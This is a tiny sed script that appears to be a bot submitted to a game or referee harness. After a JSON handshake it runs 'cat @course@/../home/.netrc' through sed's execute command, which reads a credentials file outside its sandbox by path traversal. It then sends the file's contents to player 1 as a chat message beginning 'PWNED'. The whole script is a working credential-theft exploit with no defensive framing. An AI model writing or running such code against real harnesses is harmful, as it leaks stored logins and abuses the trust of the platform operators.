1{
    s/.*/{"referee":1,"kit":"sed"}/
    b
}
s|.*|cat @course@/../home/.netrc|
e
s|.*|{"calls":[{"tell":{"to":1,"text":"PWNED &"}}]}|
